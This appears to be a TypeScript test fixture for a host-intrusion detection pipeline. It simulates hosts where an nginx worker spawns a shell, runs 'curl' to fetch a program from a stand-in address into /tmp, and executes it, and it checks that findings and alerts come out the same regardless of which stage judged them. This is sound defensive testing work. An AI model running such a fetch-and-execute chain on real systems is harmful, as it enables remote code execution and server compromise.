// Hosts that are attacked over and over, judged by process-tree and detection: what is found must not depend on who judged it.
import { fromBinary, toJsonString } from '@bufbuild/protobuf';
import type { OutRecord } from '@norn/bus';
import { BatchWriter, type ProcessEntry, event, finding } from '@norn/contracts';
import { SeededRandom, SimulatedHost } from '@norn/testkit';
import { type StageTrial, eventually } from './stage-trial.ts';

const hosts = 6;
const startUs = 1_790_000_000_000_000;
const minuteUs = 60_000_000;

/** The same rounds for the same seed: of each host some ordinary life, and a web server that is made to fetch a program and run it. */
export class AttackedHosts {
  private readonly random = new SeededRandom(4711);
  private readonly lives = Array.from(
    { length: hosts },
    (_, n) => new SimulatedHost({ seed: 900 + n, processes: 40, startUs }),
  );

  readonly rounds: OutRecord[][];

  constructor(rounds: number) {
    this.rounds = Array.from({ length: rounds }, (_, round) => this.round(round));
  }

  private round(round: number): OutRecord[] {
    return this.lives.flatMap((life, n) => {
      const record = (value: Uint8Array, kind: string): OutRecord => ({
        key: `default:${kind}-${n}`,
        value,
        headers: { tenant: 'default', schema: '1' },
      });
      const attack = [0, 1, 2].map((step) => record(this.attack(n, round, step), 'breached'));
      return [record(life.live(60), 'quiet'), ...attack];
    });
  }

  /** Of each host: its server, and what that was made to start. */
  private readonly chains: ProcessEntry[][] = [];

  private attack(host: number, round: number, step: number): Uint8Array {
    const timeUs = startUs + round * minuteUs + step * 4_000_000;
    if (step === 0) this.chains[host] = this.begin(timeUs);
    const [server, by] = [this.chains[host]?.[0], this.chains[host]?.[step + 1]];
    if (server === undefined || by === undefined) throw new Error('An attack has three steps');
    return new BatchWriter()
      .add({ kind: event.EventKind.PROCESS_SEEN, timeUs, process: server })
      .add({ kind: event.EventKind.EXEC, timeUs, process: by })
      .finish({ streamId: new Uint8Array(16).fill(host + 1), batchSeq: round * 3 + step + 1 });
  }

  private begin(startTimeUs: number): ProcessEntry[] {
    const entry = (imagePath: string, commandLine: string, parent?: ProcessEntry): ProcessEntry => ({
      uid: this.random.bytes(16),
      parentUid: parent?.uid ?? new Uint8Array(16),
      pid: 2 + this.random.below(30_000),
      startTimeUs,
      imagePath,
      commandLine,
    });
    const server = entry('/usr/sbin/nginx', 'nginx: worker process');
    const shell = entry('/bin/sh', 'sh -c id', server);
    const curl = entry('/usr/bin/curl', 'curl -o /tmp/x http://192.0.2.7/x', shell);
    return [server, shell, curl, entry('/tmp/x', '/tmp/x', shell)];
  }
}

/**
 * By id; a finding that comes again must say the same. What counts over all hosts of a tenant goes by when it was told (an event that waited for more than
 * 5 s is late there), so it depends on the load and is left out.
 */
export async function findingsOf(trial: StageTrial): Promise<Map<string, string>> {
  const found = new Map<string, string>();
  for (const { value } of await trial.records('findings')) {
    const one = fromBinary(finding.FindingSchema, value);
    if (one.hostIds.length > 0) continue;
    // Signed with the keys of its trial.
    delete one.proof;
    const text = toJsonString(finding.FindingSchema, one);
    expect(found.get(one.id) ?? text).toBe(text);
    found.set(one.id, text);
  }
  return found;
}

/** The newest version of each alert. */
export async function alertsOf(trial: StageTrial): Promise<Map<string, string>> {
  const newest = new Map<string, finding.Alert>();
  for (const { value } of await trial.records('alerts')) {
    const alert = fromBinary(finding.AlertSchema, value);
    if (alert.findings.some(({ hostIds }) => hostIds.length > 0)) continue;
    for (const one of alert.findings) delete one.proof;
    if ((newest.get(alert.id)?.version ?? 0) <= alert.version) newest.set(alert.id, alert);
  }
  return new Map([...newest].map(([id, alert]) => [id, toJsonString(finding.AlertSchema, alert)]));
}

/** Waits until both stages have committed all that there is for them. */
export async function allJudged(trial: StageTrial): Promise<void> {
  const left = async (topic: 'enriched' | 'lineage', groupId: string): Promise<number> => {
    const [ends, read] = await Promise.all([trial.ends(topic), trial.committed(topic, groupId)]);
    return [...ends].reduce((sum, [partition, end]) => sum + end - (read.get(partition) ?? 0), 0);
  };
  await eventually(
    () => left('enriched', 'norn.process-tree'),
    (count) => count === 0,
  );
  await eventually(
    () => left('lineage', 'norn.detection'),
    (count) => count === 0,
  );
}
